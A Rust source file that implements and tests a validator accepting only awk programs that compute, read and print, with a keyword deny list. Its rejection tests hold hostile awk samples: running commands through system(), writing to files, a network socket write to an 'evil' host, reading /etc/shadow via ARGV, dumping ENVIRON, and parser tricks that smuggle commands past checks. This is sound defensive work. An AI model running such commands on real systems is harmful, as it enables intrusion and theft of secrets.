//! Proves that an awk program only computes, reads and prints.

use super::super::brackets::Reading;
use super::cursor::Problem;
use super::reader::Reader;

/// Returns the files that a program reads with `getline < "FILE"`, or the reason of its denial.
///
/// The program is read in every way in which implementations of awk read brackets. At least one
/// reading must be understood. If another one is not, the text must not contain anything dangerous,
/// in any position.
pub(super) fn files_read(text: &str) -> Result<Vec<String>, Problem> {
    let readings = if text.contains('[') {
        &Reading::ALL[..]
    } else {
        &Reading::ALL[..1]
    };
    let mut files = Vec::new();
    let (mut is_understood, mut problem) = (false, None);
    for reading in readings {
        let mut reader = Reader::new(text, *reading);
        match reader.program() {
            Ok(()) => {
                is_understood = true;
                files.append(&mut reader.files);
            }
            Err(found @ Problem::NotUnderstood(_)) => problem = Some(found),
            Err(found) => return Err(found),
        }
    }
    match problem {
        Some(problem) if !is_understood || may_be_dangerous(text) => Err(problem),
        _ => Ok(files),
    }
}

/// Returns whether a text contains a word or a character that a program needs for more than
/// computing and printing, even in a string or a regular expression.
fn may_be_dangerous(text: &str) -> bool {
    let words = words!("system getline ARGV ARGC SYMTAB FUNCTAB ENVIRON extension @ >");
    words.iter().any(|word| text.contains(word)) || text.replace("||", "").contains('|')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn computing_and_printing_is_understood() {
        for text in [
            "",
            "{print}",
            "{print $1, $NF}",
            "NR==1",
            "NR>1{print $2}",
            "$3 > 100",
            "$3 > 100 && $4 < 5 { n++ } END { print n }",
            "/foo/",
            "/foo/{print FILENAME\":\"FNR\": \"$0}",
            "!/^#/ && NF",
            "/start/,/end/",
            "{ sum += $1 / 2 } END { print sum / NR }",
            "{ a = b /2/ c; d /= 2 }",
            "{ print (a > b) ? a : b }",
            "{ max = $1 > max ? $1 : max } END { print max }",
            "{ if ($1 > max) max = $1; print max }",
            "BEGIN { for (i = 0; i < 10; i++) printf \"%d\\n\", i }",
            "{ gsub(/a|b/, \"|\"); print }",
            "{ gsub(/[^\\/]*\\//, \"\") } 1",
            "{ print \"a > b | c\" }",
            "{ print \"x\" > \"/dev/stderr\" }",
            "{ print \"x\" >> \"/dev/stdout\"; print 2 }",
            "function f(x, y) { return x * y } { print f($1, 2) }",
            "{ a[$1]++ } END { for (k in a) print k, a[k] }",
            "!seen[$0]++",
            "BEGIN { while ((getline line < \"data.txt\") > 0) n++; print n }",
            "BEGIN { getline; getline x; print x }",
            "{ print length, length($0) } # > x | y",
            "{ print a,\n b }",
            "{ x = \"a\" \\\n \"b\"; print x }",
            "BEGIN { print ENVIRON[\"HOME\"] }",
            "{ print > \"/dev/stderr\" }",
            "BEGIN{FS=\":\"}{print $1}",
            "NR%2==0",
            "{ gsub(/[^/]*$/, \"\"); print }",
            "/[/]/ { print }",
            "NR==FNR{a[$1];next} $1 in a",
            "{ print 1e5, .5, 1.5e-3 }",
            "/a/ || /b/ { print }",
            "{ print $1 }\n/x/ { print $2 }",
            "{ $1 = \"\"; print substr($0, 2) }",
            "BEGIN { \"a\" ~ /b/; print -1 }",
            "{ n = split($0, p, /[.\\/]/); print p[n] }",
        ] {
            assert!(files_read(text).is_ok(), "{text:?}: {:?}", files_read(text));
        }
    }

    #[test]
    fn files_are_found() {
        assert_eq!(
            files_read("{ while ((getline x < \"a/b\") > 0) n++; getline < \"c\" }"),
            Ok(vec!["a/b".to_owned(), "c".to_owned()])
        );
    }

    #[test]
    fn writing_running_and_reaching_further_is_refused() {
        for text in [
            "{ system(\"id\") }",
            "{ x = 1 system(\"id\") }",
            "{ print | \"cat\" }",
            "{ print |& \"cat\" }",
            "{ \"id\" | getline x }",
            "{ while ((\"id\" | getline x) > 0) print x }",
            "{ print > \"x\" }",
            "{ print $1 > $2 }",
            "{ print $1 >> \"x\" }",
            "{ printf(\"%s\", $1) > \"x\" }",
            "{ print (1)(2) > \"x\" }",
            "{ print a,\n b > \"x\" }",
            "{ print a \\\n > \"x\" }",
            "{ print \"x\" > \"/dev/stderr\" \"y\" }",
            "{ print \"x\" > \"/dev/\" \"stderr\" }",
            "{ print > \"/dev/stderr\" ? \"a\" : \"b\" }",
            "{ print > \"/inet/tcp/0/evil/80\" }",
            "{ getline x < $1 }",
            "{ getline x < \"a\" \"b\" }",
            "{ getline x[1] < (\"a\") }",
            "@load \"filefuncs\"",
            "@include \"x\"",
            "{ f = \"system\"; @f(\"id\") }",
            "BEGIN { ARGV[1] = \"/etc/shadow\"; ARGC = 2 }",
            "BEGIN { for (k in ENVIRON) print ENVIRON[k] }",
            "BEGIN { print ENVIRON[\"A\" \"B\"] }",
            "BEGIN { SYMTAB[\"x\"] = 1 }",
            "BEGIN { awk::system(\"id\") }",
            "BEGIN { extension(\"x.so\", \"dlload\") }",
            "BEGIN { if (1) /\"/; system(\"id\") #/\n }",
            "BEGIN { if\\\n(1) /\"/; print > \"x\" #\"/\n }",
            "{ x++ /\"/ 1; print > \"x\" #\"/\n }",
            "/[/]/ { print > \"x\" }",
            "/[/]/ { print } /a|b/",
            "/[/]\"/ { print > \"x\" } #\"",
            "{ length /\"/ 1; print > \"x\" #\"/\n }",
            "{ print \"a",
            "{ print (a }",
            "{ print ",
            "print > \"x\"",
            "{ 1system(\"id\") }",
            "{ 0x1fgetline }",
            "{ print `id` }",
            "{ print } # x\\\n{ print > \"x\" }",
            "{ a >> \"x\" }",
            "{ print /x/ > \"x\" }",
            "{ if (1) print 1; else print 2 > \"x\" }",
            "{ do print 1 > \"x\"; while (0) }",
        ] {
            assert!(files_read(text).is_err(), "{text:?}");
        }
    }
}
